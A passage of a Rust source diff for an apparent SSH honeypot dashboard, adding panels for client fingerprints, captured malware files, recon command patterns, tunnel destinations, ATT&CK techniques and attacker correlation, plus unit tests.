+            ClientSort::AverageRisk => b.1.average_risk()
+                .partial_cmp(&a.1.average_risk())
+                .unwrap_or(std::cmp::Ordering::Equal),
+            ClientSort::LastSeen => b.1.last_seen.cmp(&a.1.last_seen),
+        };
+        primary.then(b.1.sessions.cmp(&a.1.sessions)).then(a.0.cmp(b.0))
+    });
+    clients
+}
+
+/// Render distinct SSH clients (HASSH and version banner) with their sessions, IPs and risk
+///
+/// Tools are often easier to recognise by fingerprint than by address. When
+/// the panel is focused, Enter filters the sessions tab to the selected client.
+fn render_clients(f: &mut Frame, app: &App, area: Rect) {
+    let store = app.store.snapshot();
+    let clients = clients(&store, app.client_sort);
+    
+    let block = Block::default()
+        .title(format!("Clients by {} (s: sort, Enter: sessions)", app.client_sort))
+        .borders(Borders::ALL);
+    if clients.is_empty() {
+        render_empty_state(f, app, block, "client fingerprints", 0, area);
+        return;
     }
     
-    // Sort files by timestamp (most recent first)
-    files.sort_by(|a, b| b.1.timestamp.cmp(&a.1.timestamp));
+    // Create header row
+    let header_cells = ["HASSH", "Banner", "Sessions", "IPs", "Avg risk", "First seen", "Last seen"]
+        .iter()
+        .map(|h| Cell::from(*h).style(Style::default().fg(Color::Yellow)));
+    let header = Row::new(header_cells).height(1).bottom_margin(1);
+    
+    let time_width = app.clock.column_width() as u16;
+    let columns = Columns::new(area, WidthBucket::of(area).pick(
+        vec![Constraint::Length(12), Constraint::Min(10), Constraint::Length(8), Constraint::Length(4), Constraint::Length(8), Constraint::Length(0), Constraint::Length(time_width)],
+        vec![Constraint::Length(32), Constraint::Min(16), Constraint::Length(8), Constraint::Length(4), Constraint::Length(8), Constraint::Length(time_width), Constraint::Length(time_width)],
+        vec![Constraint::Length(32), Constraint::Min(24), Constraint::Length(8), Constraint::Length(5), Constraint::Length(8), Constraint::Length(time_width), Constraint::Length(time_width)],
+    ), app.config.ui.max_field_width);
+    
+    // Scrolls so the selected row stays visible when the panel is focused
+    let focused = focused_panel(app).as_deref() == Some("clients");
+    let mut table_state = TableState::default();
+    if focused {
+        table_state.select(Some(app.selected_client.min(clients.len() - 1)));
+    }
+    
+    let rows = clients.iter().map(|(client, stats)| {
+        let risk = RiskLevel::of(stats.average_risk().round() as u8);
+        let cells = [
+            Cell::from(columns.fit(0, client.hassh.as_deref().unwrap_or("-")).into_owned()),
+            Cell::from(columns.fit(1, &escape_controls(client.version.as_deref().unwrap_or("-"))).into_owned()),
+            Cell::from(stats.sessions.to_string()),
+            Cell::from(stats.ips.len().to_string()),
+            Cell::from(format!("{:.0}", stats.average_risk())).style(app.theme.style_for_risk(risk)),
+            Cell::from(app.clock.when(&stats.first_seen)),
+            Cell::from(app.clock.when(&stats.last_seen)),
+        ];
+        
+        Row::new(cells)
+    });
+    
+    // Create table
+    let table = Table::new(rows)
+        .header(header)
+        .block(block)
+        .widths(columns.constraints())
+        .highlight_style(Style::default().add_modifier(Modifier::REVERSED));
+    
+    f.render_stateful_widget(table, area, &mut table_state);
+}
+
+/// Name of the focused panel in the current layout
+fn focused_panel(app: &App) -> Option<String> {
+    let grid = app.config.dashboard.grid().ok()?;
+    let count = grid.panels().count();
+    let name = grid.panels().nth(app.panel_focus.index(count))?;
+    Some(name.to_string())
+}
+
+/// Render malware analysis panel
+fn render_malware_analysis(f: &mut Frame, app: &App, area: Rect) {
+    let store = app.store.snapshot();
+    
+    // Most recent files from all sessions
+    let files = malware_files(app, &store);
+    
+    let block = Block::default().title("Malware Analysis (d: extract sample)").borders(Borders::ALL);
+    if files.is_empty() {
+        render_empty_state(f, app, block, "file transfers", 0, area);
+        return;
+    }
     
     // Create header row
     let header_cells = ["Filename", "Source IP", "Size", "Status"]
@@ -565,8 +851,15 @@ fn render_malware_analysis(f: &mut Frame, app: &App, area: Rect) {
         .map(|h| Cell::from(*h).style(Style::default().fg(Color::Yellow)));
     let header = Row::new(header_cells).height(1).bottom_margin(1);
     
+    let columns = Columns::new(area, WidthBucket::of(area).pick(
+        vec![Constraint::Min(10), Constraint::Length(15), Constraint::Length(9), Constraint::Length(10)],
+        vec![Constraint::Min(20), Constraint::Length(15), Constraint::Length(9), Constraint::Length(10)],
+        vec![Constraint::Min(30), Constraint::Length(39), Constraint::Length(9), Constraint::Length(10)],
+    ), app.config.ui.max_field_width);
+    
     // Create data rows
-    let rows = files.iter().take(10).map(|(ip, file)| {
+    let anon = Anonymizer::for_app(app);
+    let rows = files.iter().map(|(session, file)| {
         let status = if file.is_malware {
             "Malicious"
         } else if file.is_executable {
@@ -575,13 +868,13 @@ fn render_malware_analysis(f: &mut Frame, app: &App, area: Rect) {
             "Normal"
         };
         
-        let status_style = if file.is_malware {
-            Style::default().fg(Color::Red)
+        let status_style = app.theme.style_for_risk(if file.is_malware {
+            RiskLevel::High
         } else if file.is_executable {
-            Style::default().fg(Color::Yellow)
+            RiskLevel::Medium
         } else {
-            Style::default().fg(Color::Green)
-        };
+            RiskLevel::Low
+        });
         
         let size = file.size.map_or("Unknown".to_string(), |s| {
             if s < 1024 {
@@ -594,8 +887,8 @@ fn render_malware_analysis(f: &mut Frame, app: &App, area: Rect) {
         });
         
         let cells = [
-            Cell::from(file.filename.clone()),
-            Cell::from(ip.clone()),
+            Cell::from(columns.fit(0, &anon.file_name(&file.filename)).into_owned()),
+            Cell::from(columns.fit(1, &anon.ip(&session.src_ip)).into_owned()),
             Cell::from(size),
             Cell::from(status).style(status_style),
         ];
@@ -606,19 +899,104 @@ fn render_malware_analysis(f: &mut Frame, app: &App, area: Rect) {
     // Create table
     let table = Table::new(rows)
         .header(header)
-        .block(Block::default().title("Malware Analysis").borders(Borders::ALL))
-        .widths(&[
-            Constraint::Percentage(40),
-            Constraint::Percentage(25),
-            Constraint::Percentage(15),
-            Constraint::Percentage(20),
-        ]);
+        .block(block)
+        .widths(columns.constraints())
+        .highlight_style(Style::default().add_modifier(Modifier::REVERSED));
     
-    f.render_widget(table, area);
+    let mut table_state = TableState::default();
+    if !files.is_empty() {
+        table_state.select(Some(app.selected_malware.min(files.len() - 1)));
+    }
+    
+    f.render_stateful_widget(table, area, &mut table_state);
+}
+
+/// Files listed in the malware panel: the most recent captures matching the search
+pub fn malware_files<'a>(app: &App, store: &'a StoreSnapshot) -> Vec<(&'a Session, &'a FileTransfer)> {
+    store.get_recent_files()
+        .into_iter()
+        .filter(|(session, file)| {
+            let fields = [file.filename.as_str(), session.src_ip.as_str(), session.id.as_str(), file.shasum.as_deref().unwrap_or_default()];
+            app.filters.matches_search(fields.iter().copied())
+        })
+        .take(MALWARE_PANEL_ROWS)
+        .collect()
+}
+
+/// Move the malware panel selection, or the listeners panel's when it is focused
+pub async fn handle_security_input(action: Action, app: &mut App) -> Result<()> {
+    let store = app.store.snapshot();
+    let last = malware_files(app, &store).len().saturating_sub(1);
+    
+    let focused = focused_panel(app);
+    let list_action = matches!(action, Action::MoveDown | Action::MoveUp | Action::Top | Action::Bottom | Action::Open);
+    if list_action && focused.as_deref() == Some("clients") {
+        let clients = clients(&store, app.client_sort).into_iter()
+            .map(|(client, _)| client.clone())
+            .collect::<Vec<_>>();
+        let last = clients.len().saturating_sub(1);
+        match action {
+            Action::MoveDown => app.selected_client = (app.selected_client + 1).min(last),
+            Action::MoveUp => app.selected_client = app.selected_client.saturating_sub(1),
+            Action::Top => app.selected_client = 0,
+            Action::Bottom => app.selected_client = last,
+            Action::Open => {
+                if let Some(client) = clients.into_iter().nth(app.selected_client.min(last)) {
+                    app.filters.client = Some(client);
+                    app.session_cursor = 0;
+                    app.selected_session_id = None;
+                    app.selected_tab = 3;
+                }
+            }
+            _ => {}
+        }
+        return Ok(());
+    }
+    if list_action && focused.as_deref() == Some("listeners") {
+        let ports = listeners(&store).into_iter().map(|(port, _)| port).collect::<Vec<_>>();
+        let last = ports.len().saturating_sub(1);
+        match action {
+            Action::MoveDown => app.selected_listener = (app.selected_listener + 1).min(last),
+            Action::MoveUp => app.selected_listener = app.selected_listener.saturating_sub(1),
+            Action::Top => app.selected_listener = 0,
+            Action::Bottom => app.selected_listener = last,
+            Action::Open => {
+                if let Some(port) = ports.get(app.selected_listener.min(last)) {
+                    app.filters.dst_port = Some(*port);
+                    app.session_cursor = 0;
+                    app.selected_session_id = None;
+                    app.selected_tab = 3;
+                }
+            }
+            _ => {}
+        }
+        return Ok(());
+    }
+    
+    match action {
+        Action::CycleLayout => app.cycle_dashboard_layout()?,
+        Action::CycleClientSort => app.client_sort = app.client_sort.next(),
+        Action::CycleAlertSeverity => app.alert_min_severity = app.alert_min_severity.next(),
+        Action::OpenAlerts => app.alerts_view = Some(AlertsView::default()),
+        Action::RefreshIntel => app.refresh_threat_intel(),
+        Action::MoveDown => app.selected_malware = (app.selected_malware + 1).min(last),
+        Action::MoveUp => app.selected_malware = app.selected_malware.saturating_sub(1),
+        Action::PageDown => app.selected_malware = (app.selected_malware + PAGE_SIZE).min(last),
+        Action::PageUp => app.selected_malware = app.selected_malware.saturating_sub(PAGE_SIZE),
+        Action::Top => app.selected_malware = 0,
+        Action::Bottom => app.selected_malware = last,
+        Action::ExtractSample => match app.extract_selected_sample() {
+            Ok(path) => log::info!("Sample written to {}", path.display()),
+            Err(e) => log::error!("{:#}", e),
+        },
+        _ => {}
+    }
+    
+    Ok(())
 }
 
 /// Render time series chart
-fn render_time_series_chart(f: &mut Frame, app: &App, area: Rect) {
+fn render_time_series_chart(f: &mut Frame, _app: &App, area: Rect) {
     // This would render a time series chart of activity
     // For now, just render a placeholder
     let block = Block::default()
@@ -647,27 +1025,37 @@ fn render_time_series_chart(f: &mut Frame, app: &App, area: Rect) {
 
 /// Render command distribution chart
 fn render_command_distribution(f: &mut Frame, app: &App, area: Rect) {
-    let store_guard = match app.store.try_read() {
-        Ok(guard) => guard,
-        Err(_) => return,
-    };
-    
-    // Count command frequencies
-    let mut cmd_counts = HashMap::new();
-    for session in store_guard.get_sessions() {
-        for cmd in &session.commands {
-            // Extract the base command (first word)
-            let base_cmd = cmd.command.split_whitespace().next().unwrap_or(&cmd.command).to_string();
-            *cmd_counts.entry(base_cmd).or_insert(0) += 1;
+    let (cmd_counts, age) = app.panel_caches.command_counts.get_or_compute(|| {
+        let store = app.store.snapshot();
+        
+        // Count command frequencies, noting base commands any watched command ran under
+        let mut cmd_counts: HashMap<String, (usize, bool)> = HashMap::new();
+        for session in store.get_sessions() {
+            for cmd in &session.commands {
+                // Extract the base command (first word)
+                let base_cmd = escape_controls(cmd.command.split_whitespace().next().unwrap_or(&cmd.command)).into_owned();
+                let counts = cmd_counts.entry(base_cmd).or_insert((0, false));
+                counts.0 += 1;
+                counts.1 |= app.watchlist.matches(&cmd.command);
+            }
         }
-    }
+        
+        // Sort by frequency
+        let mut cmd_counts = cmd_counts.into_iter()
+            .map(|(cmd, (count, watched))| (cmd, count, watched))
+            .collect::<Vec<_>>();
+        cmd_counts.sort_by(|a, b| b.1.cmp(&a.1));
+        cmd_counts
+    });
     
-    // Sort by frequency
-    let mut cmd_counts = cmd_counts.into_iter().collect::<Vec<_>>();
-    cmd_counts.sort_by(|a, b| b.1.cmp(&a.1));
+    // Take as many as fit
+    let cmd_counts = &cmd_counts[..cmd_counts.len().min(table_rows(area))];
     
-    // Take top 10
-    let cmd_counts = cmd_counts.into_iter().take(10).collect::<Vec<_>>();
+    let block = Block::default().title(cached_title("Command Distribution", age)).borders(Borders::ALL);
+    if cmd_counts.is_empty() {
+        render_empty_state(f, app, block, "commands", 0, area);
+        return;
+    }
     
     // Create header row
     let header_cells = ["Command", "Count", "Distribution"]
@@ -676,18 +1064,25 @@ fn render_command_distribution(f: &mut Frame, app: &App, area: Rect) {
     let header = Row::new(header_cells).height(1).bottom_margin(1);
     
     // Find max count for bar scaling
-    let max_count = cmd_counts.iter().map(|(_, count)| *count).max().unwrap_or(1);
+    let max_count = cmd_counts.iter().map(|(_, count, _)| *count).max().unwrap_or(1);
     
     // Create data rows
-    let rows = cmd_counts.iter().map(|(cmd, count)| {
+    let rows = cmd_counts.iter().map(|(cmd, count, watched)| {
         // Create a bar of # symbols proportional to count
         let bar_width = ((count * 20) / max_count).max(1);
         let bar = "█".repeat(bar_width);
         
+        // Base commands that ran a watched command stand out, bar included
+        let (cmd_style, bar_style) = if *watched {
+            (watch_style(), watch_style())
+        } else {
+            (Style::default(), Style::default().fg(Color::Blue))
+        };
+        
         let cells = [
-            Cell::from(cmd.clone()),
+            Cell::from(cmd.clone()).style(cmd_style),
             Cell::from(count.to_string()),
-            Cell::from(bar).style(Style::default().fg(Color::Blue)),
+            Cell::from(bar).style(bar_style),
         ];
         
         Row::new(cells)
@@ -696,7 +1091,7 @@ fn render_command_distribution(f: &mut Frame, app: &App, area: Rect) {
     // Create table
     let table = Table::new(rows)
         .header(header)
-        .block(Block::default().title("Command Distribution").borders(Borders::ALL))
+        .block(block)
         .widths(&[
             Constraint::Percentage(30),
             Constraint::Percentage(20),
@@ -706,31 +1101,261 @@ fn render_command_distribution(f: &mut Frame, app: &App, area: Rect) {
     f.render_widget(table, area);
 }
 
-/// Render geographic distribution
-fn render_geographic_distribution(f: &mut Frame, app: &App, area: Rect) {
-    let store_guard = match app.store.try_read() {
-        Ok(guard) => guard,
-        Err(_) => return,
-    };
+/// Render the most common reconnaissance before a payload arrived
+///
+/// Sessions that transferred a file are grouped by the commands they ran
+/// beforehand (see [`Session::recon_commands`]), so a bot's fingerprinting
+/// script shows up as one row however many addresses run it.
+fn render_recon_patterns(f: &mut Frame, app: &App, area: Rect) {
+    let (patterns, age) = app.panel_caches.recon_patterns.get_or_compute(|| {
+        let store = app.store.snapshot();
+        
+        let mut patterns: HashMap<String, (usize, HashSet<&str>)> = HashMap::new();
+        for session in store.get_sessions() {
+            if session.files.is_empty() {
+                continue;
+            }
+            
+            let recon = session.recon_commands();
+            let sequence = if recon.is_empty() {
+                "(none)".to_string()
+            } else {
+                recon.iter()
+                    .map(|cmd| escape_controls(&cmd.command.split_whitespace().collect::<Vec<_>>().join(" ")).into_owned())
+                    .collect::<Vec<_>>()
+                    .join("; ")
+            };
+            let entry = patterns.entry(sequence).or_default();
+            entry.0 += 1;
+            entry.1.insert(session.src_ip.as_str());
+        }
+        
+        // Sort by sessions, then by how many addresses share the pattern
+        let mut patterns = patterns.into_iter()
+            .map(|(sequence, (sessions, ips))| (sequence, sessions, ips.len()))
+            .collect::<Vec<_>>();
+        patterns.sort_by(|a, b| b.1.cmp(&a.1).then(b.2.cmp(&a.2)).then(a.0.cmp(&b.0)));
+        patterns
+    });
+    
+    // Take as many as fit
+    let patterns = &patterns[..patterns.len().min(table_rows(area))];
+    
+    let block = Block::default().title(cached_title("Recon Before Payload", age)).borders(Borders::ALL);
+    if patterns.is_empty() {
+        render_empty_state(f, app, block, "sessions with file transfers", 0, area);
+        return;
+    }
+    
+    // Create header row
+    let header_cells = ["Commands before first download", "Sessions", "IPs"]
+        .iter()
+        .map(|h| Cell::from(*h).style(Style::default().fg(Color::Yellow)));
+    let header = Row::new(header_cells).height(1).bottom_margin(1);
+    
+    let columns = Columns::new(area, WidthBucket::of(area).pick(
+        vec![Constraint::Min(20), Constraint::Length(8), Constraint::Length(5)],
+        vec![Constraint::Min(30), Constraint::Length(8), Constraint::Length(5)],
+        vec![Constraint::Min(40), Constraint::Length(8), Constraint::Length(5)],
+    ), app.config.ui.max_field_width);
+    
+    // Create data rows
+    let anon = Anonymizer::for_app(app);
+    let rows = patterns.iter().map(|(sequence, sessions, ips)| {
+        let cells = [
+            Cell::from(columns.fit(0, &anon.text(sequence)).into_owned()),
+            Cell::from(sessions.to_string()),
+            Cell::from(ips.to_string()),
+        ];
+        
+        Row::new(cells)
+    });
+    
+    // Create table
+    let table = Table::new(rows)
+        .header(header)
+        .block(block)
+        .widths(columns.constraints());
     
-    // Count sessions by country (if GeoIP is enabled)
-    let mut country_counts = HashMap::new();
+    f.render_widget(table, area);
+}
+
+/// Forward requests and requesting source IPs per destination, most requests first
+///
+/// Ties go to the destination more addresses tried.
+fn forward_destinations(store: &StoreSnapshot) -> Vec<ForwardDestination> {
+    let mut destinations: HashMap<String, (u16, usize, HashSet<&str>)> = HashMap::new();
+    for session in store.get_sessions() {
+        for forward in &session.forwards {
+            let entry = destinations.entry(forward.destination())
+                .or_insert_with(|| (forward.dst_port, 0, HashSet::new()));
+            entry.1 += 1;
+            entry.2.insert(session.src_ip.as_str());
+        }
+    }
+    
+    // Sort by attempts, then by how many addresses tried the destination
+    let mut destinations = destinations.into_iter()
+        .map(|(destination, (port, attempts, ips))| {
+            let mut ips = ips.into_iter().map(str::to_string).collect::<Vec<_>>();
+            ips.sort();
+            (destination, port, attempts, ips)
+        })
+        .collect::<Vec<_>>();
+    destinations.sort_by(|a, b| b.2.cmp(&a.2).then(b.3.len().cmp(&a.3.len())).then(a.0.cmp(&b.0)));
+    destinations
+}
+
+/// Render the destinations attackers tried to tunnel to, with who tried
+fn render_forward_destinations(f: &mut Frame, app: &App, area: Rect) {
+    let (destinations, age) = app.panel_caches.forward_destinations.get_or_compute(|| forward_destinations(&app.store.snapshot()));
+    
+    // Take as many as fit
+    let destinations = &destinations[..destinations.len().min(table_rows(area))];
+    
+    let block = Block::default().title(cached_title("Forward Destinations", age)).borders(Borders::ALL);
+    if destinations.is_empty() {
+        render_empty_state(f, app, block, "TCP forwards", 0, area);
+        return;
+    }
+    
+    // Create header row
+    let header_cells = ["Destination", "Tries", "Source IPs"]
+        .iter()
+        .map(|h| Cell::from(*h).style(Style::default().fg(Color::Yellow)));
+    let header = Row::new(header_cells).height(1).bottom_margin(1);
     
-    for session in store_guard.get_sessions() {
-        if let Some(geo) = &session.geo_location {
-            let country = format!("{} ({})", geo.country_name, geo.country_code);
-            *country_counts.entry(country).or_insert(0) += 1;
+    let columns = Columns::new(area, WidthBucket::of(area).pick(
+        vec![Constraint::Min(16), Constraint::Length(6), Constraint::Min(16)],
+        vec![Constraint::Min(24), Constraint::Length(6), Constraint::Min(24)],
+        vec![Constraint::Min(32), Constraint::Length(6), Constraint::Min(40)],
+    ), app.config.ui.max_field_width);
+    
+    // Create data rows; sensitive ports stand out
+    let anon = Anonymizer::for_app(app);
+    let rows = destinations.iter().map(|(destination, port, attempts, ips)| {
+        let ips = ips.iter().map(|ip| anon.ip(ip).into_owned()).collect::<Vec<_>>().join(", ");
+        let cells = [
+            Cell::from(columns.fit(0, &escape_controls(&anon.text(destination))).into_owned()),
+            Cell::from(attempts.to_string()),
+            Cell::from(columns.fit(2, &ips).into_owned()),
+        ];
+        
+        if app.config.alert.sensitive_forward_ports.contains(port) {
+            Row::new(cells).style(app.theme.style_for_risk(RiskLevel::High))
         } else {
-            *country_counts.entry("Unknown".to_string()).or_insert(0) += 1;
+            Row::new(cells)
         }
+    });
+    
+    // Create table
+    let table = Table::new(rows)
+        .header(header)
+        .block(block)
+        .widths(columns.constraints());
+    
+    f.render_widget(table, area);
+}
+
+/// Render observed ATT&CK techniques, one line per tactic
+///
+/// Each technique shows how many sessions used it, within the time filter when
+/// one is set, shaded by its share of the most-used technique.
+fn render_attack_techniques(f: &mut Frame, app: &App, area: Rect) {
+    let store = app.store.snapshot();
+    let mapping = attack_mapping();
+    
+    let in_range = |session: &&Session| {
+        app.filters.from_time.map_or(true, |from| session.start_time >= from)
+            && app.filters.to_time.map_or(true, |to| session.start_time <= to)
+    };
+    let mut counts: HashMap<&str, usize> = HashMap::new();
+    for session in store.get_sessions().into_iter().filter(in_range) {
+        for id in &session.techniques {
+            *counts.entry(id.as_str()).or_insert(0) += 1;
+        }
+    }
+    
+    let filtered = app.filters.from_time.is_some() || app.filters.to_time.is_some();
+    let title = if filtered { "ATT&CK Techniques (filtered)" } else { "ATT&CK Techniques" };
+    let block = Block::default().title(title).borders(Borders::ALL);
+    if counts.is_empty() {
+        render_empty_state(f, app, block, "ATT&CK techniques", 0, area);
+        return;
     }
     
-    // Sort by frequency
-    let mut country_counts = country_counts.into_iter().collect::<Vec<_>>();
-    country_counts.sort_by(|a, b| b.1.cmp(&a.1));
+    // Group by tactic in kill-chain order, techniques in table order
+    let mut tactics: Vec<(&str, Vec<(&str, usize)>)> = Vec::new();
+    for technique in &mapping.techniques {
+        let count = match counts.get(technique.id.as_str()) {
+            Some(count) => *count,
+            None => continue,
+        };
+        match tactics.iter_mut().find(|(tactic, _)| *tactic == technique.tactic) {
+            Some((_, techniques)) => techniques.push((technique.id.as_str(), count)),
+            None => tactics.push((technique.tactic.as_str(), vec![(technique.id.as_str(), count)])),
+        }
+    }
+    tactics.sort_by_key(|(tactic, _)| mapping.tactic_rank(tactic));
+    
+    let max = counts.values().copied().max().unwrap_or(1);
+    let width = tactics.iter().map(|(tactic, _)| tactic.len()).max().unwrap_or(0);
+    let lines = tactics.into_iter()
+        .map(|(tactic, techniques)| {
+            let mut spans = vec![Span::styled(format!("{:<width$} ", tactic, width = width), Style::default().fg(Color::Yellow))];
+            for (id, count) in techniques {
+                let level = if count * 3 >= max * 2 {
+                    RiskLevel::High
+                } else if count * 3 >= max {
+                    RiskLevel::Medium
+                } else {
+                    RiskLevel::Low
+                };
+                spans.push(Span::styled(format!("{} {}", id, count), app.theme.style_for_risk(level)));
+                spans.push(Span::raw("  "));
+            }
+            Line::from(spans)
+        })
+        .collect::<Vec<_>>();
+    
+    let paragraph = Paragraph::new(lines)
+        .block(block)
+        .wrap(Wrap { trim: false });
     
-    // Take top 10
-    let country_counts = country_counts.into_iter().take(10).collect::<Vec<_>>();
+    f.render_widget(paragraph, area);
+}
+
+/// Render geographic distribution
+fn render_geographic_distribution(f: &mut Frame, app: &App, area: Rect) {
+    let (country_counts, age) = app.panel_caches.country_counts.get_or_compute(|| {
+        let store = app.store.snapshot();
+        
+        // Count sessions by country (if GeoIP is enabled)
+        let mut country_counts = HashMap::new();
+        
+        for session in store.get_sessions() {
+            if let Some(geo) = &session.geo_location {
+                let country = format!("{} ({})", geo.country_name, geo.country_code);
+                *country_counts.entry(country).or_insert(0) += 1;
+            } else {
+                *country_counts.entry("Unknown".to_string()).or_insert(0) += 1;
+            }
+        }
+        
+        // Sort by frequency
+        let mut country_counts = country_counts.into_iter().collect::<Vec<_>>();
+        country_counts.sort_by(|a, b| b.1.cmp(&a.1));
+        country_counts
+    });
+    
+    // Take as many as fit
+    let country_counts = &country_counts[..country_counts.len().min(table_rows(area))];
+    
+    let block = Block::default().title(cached_title("Geographic Distribution", age)).borders(Borders::ALL);
+    if country_counts.is_empty() {
+        render_empty_state(f, app, block, "sessions", 0, area);
+        return;
+    }
     
     // Create header row
     let header_cells = ["Country", "Count", "Distribution"]
@@ -759,7 +1384,7 @@ fn render_geographic_distribution(f: &mut Frame, app: &App, area: Rect) {
     // Create table
     let table = Table::new(rows)
         .header(header)
-        .block(Block::default().title("Geographic Distribution").borders(Borders::ALL))
+        .block(block)
         .widths(&[
             Constraint::Percentage(40),
             Constraint::Percentage(15),
@@ -769,32 +1394,55 @@ fn render_geographic_distribution(f: &mut Frame, app: &App, area: Rect) {
     f.render_widget(table, area);
 }
 
-/// Render attacker correlation panel
-fn render_attacker_correlation(f: &mut Frame, app: &App, area: Rect) {
-    let store_guard = match app.store.try_read() {
-        Ok(guard) => guard,
-        Err(_) => return,
-    };
-    
-    // Group similar attacks
-    let sessions = store_guard.get_sessions();
-    
+/// Sessions per source IP and username, with how many other IPs share a rare HASSH with the IP
+///
+/// IPs sharing a rare fingerprint come first, then the most sessions.
+fn attacker_correlations(store: &StoreSnapshot) -> Vec<(String, String, usize, usize)> {
     // Group by unique IP/username combinations
-    let mut correlations = HashMap::new();
+    let mut correlations: HashMap<(String, String), usize> = HashMap::new();
     
-    for session in sessions {
-        let username = session.user.as_ref().map_or("N/A".to_string(), |u| u.username.clone());
-        let key = format!("{} / {}", session.src_ip, username);
-        
-        correlations.entry(key).or_insert_with(Vec::new).push(session.id.clone());
+    for session in store.get_sessions() {
+        let username = session.user.as_ref().map_or("N/A".to_string(), |u| u.username.to_string());
+        *correlations.entry((session.src_ip.to_string(), username)).or_insert(0) += 1;
+    }
+    
+    // IPs sharing a rare HASSH (whatever their banners) are likely the same tooling
+    let mut hassh_ips: HashMap<&str, HashSet<&str>> = HashMap::new();
+    for (client, stats) in store.get_client_stats() {
+        if let Some(hassh) = &client.hassh {
+            hassh_ips.entry(hassh.as_str()).or_default().extend(stats.ips.keys().map(|ip| &**ip));
+        }
+    }
+    let mut shared: HashMap<&str, HashSet<&str>> = HashMap::new();
+    for ips in hassh_ips.values().filter(|ips| ips.len() > 1 && ips.len() <= RARE_HASSH_IPS) {
+        for ip in ips {
+            shared.entry(*ip).or_default().extend(ips.iter().filter(|other| *other != ip));
+        }
     }
     
-    // Sort by number of correlated sessions
-    let mut correlations = correlations.into_iter().collect::<Vec<_>>();
-    correlations.sort_by(|a, b| b.1.len().cmp(&a.1.len()));
+    // Shared rare fingerprints first, then by number of correlated sessions
+    let mut correlations = correlations.into_iter()
+        .map(|((ip, username), sessions)| {
+            let shared_with = shared.get(ip.as_str()).map_or(0, HashSet::len);
+            (ip, username, sessions, shared_with)
+        })
+        .collect::<Vec<_>>();
+    correlations.sort_by(|a, b| (b.3 > 0).cmp(&(a.3 > 0)).then(b.2.cmp(&a.2)));
+    correlations
+}
+
+/// Render attacker correlation panel
+fn render_attacker_correlation(f: &mut Frame, app: &App, area: Rect) {
+    let (correlations, age) = app.panel_caches.correlations.get_or_compute(|| attacker_correlations(&app.store.snapshot()));
+    
+    // Take as many entries as fit
+    let correlations = &correlations[..correlations.len().min(table_rows(area))];
     
-    // Take top entries
-    let correlations = correlations.into_iter().take(10).collect::<Vec<_>>();
+    let block = Block::default().title(cached_title("Attack Correlation", age)).borders(Borders::ALL);
+    if correlations.is_empty() {
+        render_empty_state(f, app, block, "sessions", 0, area);
+        return;
+    }
     
     // Create header row
     let header_cells = ["Source / Username", "Sessions", "Pattern"]
@@ -802,12 +1450,25 @@ fn render_attacker_correlation(f: &mut Frame, app: &App, area: Rect) {
         .map(|h| Cell::from(*h).style(Style::default().fg(Color::Yellow)));
     let header = Row::new(header_cells).height(1).bottom_margin(1);
     
+    let columns = Columns::new(area, WidthBucket::of(area).pick(
+        vec![Constraint::Percentage(55), Constraint::Length(8), Constraint::Min(0)],
+        vec![Constraint::Percentage(45), Constraint::Length(8), Constraint::Min(0)],
+        vec![Constraint::Percentage(40), Constraint::Length(8), Constraint::Min(0)],
+    ), app.config.ui.max_field_width);
+    
     // Create data rows
-    let rows = correlations.iter().map(|(key, sessions)| {
+    let anon = Anonymizer::for_app(app);
+    let rows = correlations.iter().map(|(ip, username, sessions, shared_with)| {
+        let pattern = if *shared_with > 0 {
+            Cell::from(format!("rare HASSH shared with {} other IP{}", shared_with, if *shared_with == 1 { "" } else { "s" }))
+                .style(Style::default().fg(Color::Magenta).add_modifier(Modifier::BOLD))
+        } else {
+            Cell::from(format!("{} related sessions", sessions))
+        };
         let cells = [
-            Cell::from(key.clone()),
-            Cell::from(sessions.len().to_string()),
-            Cell::from(format!("{} related sessions", sessions.len())),
+            Cell::from(columns.fit(0, &format!("{} / {}", anon.ip(ip), anon.credential(username))).into_owned()),
+            Cell::from(sessions.to_string()),
+            pattern,
         ];
         
         Row::new(cells)
@@ -816,12 +1477,8 @@ fn render_attacker_correlation(f: &mut Frame, app: &App, area: Rect) {
     // Create table
     let table = Table::new(rows)
         .header(header)
-        .block(Block::default().title("Attack Correlation").borders(Borders::ALL))
-        .widths(&[
-            Constraint::Percentage(40),
-            Constraint::Percentage(15),
-            Constraint::Percentage(45),
-        ]);
+        .block(block)
+        .widths(columns.constraints());
     
     f.render_widget(table, area);
 }
@@ -860,4 +1517,121 @@ fn risk_activities(session: &Session) -> String {
     } else {
         activities.join(", ")
     }
-}
\ No newline at end of file
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::Config;
+    use crate::data::store_writer::{apply, StoreCommand};
+    use crate::data::testing::{at, session};
+    use crate::data::TcpForward;
+    use crate::core::{Alert, AlertType};
+    use crate::ui::testing;
+    use pretty_assertions::assert_eq;
+    use std::time::Duration;
+
+    /// A store of sessions from (IP, HASSH) pairs
+    fn store(clients: &[(&str, Option<&str>)]) -> StoreSnapshot {
+        let mut store = StoreSnapshot::new(&Config::default()).unwrap();
+        for (i, (ip, hassh)) in clients.iter().enumerate() {
+            let mut client = session(&format!("s{}", i), ip, at(i as i64));
+            client.hassh = hassh.map(str::to_string);
+            client.client_version = Some("SSH-2.0-Go".to_string());
+            apply(&mut store, StoreCommand::UpsertSession(Box::new(client)));
+        }
+        store
+    }
+
+    #[test]
+    fn ips_sharing_a_rare_hassh_come_first() {
+        let mut clients = vec![("203.0.113.7", Some("b5752e36")), ("198.51.100.23", Some("b5752e36"))];
+        clients.extend(["192.0.2.1", "192.0.2.2", "192.0.2.3", "192.0.2.4", "192.0.2.5", "192.0.2.6"].map(|ip| (ip, Some("ec7378c1"))));
+        clients.extend([("192.0.2.99", None); 5]);
+
+        let correlations = attacker_correlations(&store(&clients));
+        let mut first: Vec<_> = correlations[..2].iter().map(|(ip, _, sessions, shared)| (ip.as_str(), *sessions, *shared)).collect();
+        first.sort();
+        assert_eq!(first, [("198.51.100.23", 1, 1), ("203.0.113.7", 1, 1)]);
+        // Then the busiest; a HASSH seen from six addresses is too common to count
+        assert_eq!(correlations[2], ("192.0.2.99".to_string(), "N/A".to_string(), 5, 0));
+        assert!(correlations[3..].iter().all(|(_, _, sessions, shared)| (*sessions, *shared) == (1, 0)));
+    }
+
+    #[test]
+    fn a_hassh_from_one_ip_correlates_nothing() {
+        let correlations = attacker_correlations(&store(&[("203.0.113.7", Some("b5752e36")), ("203.0.113.7", Some("b5752e36"))]));
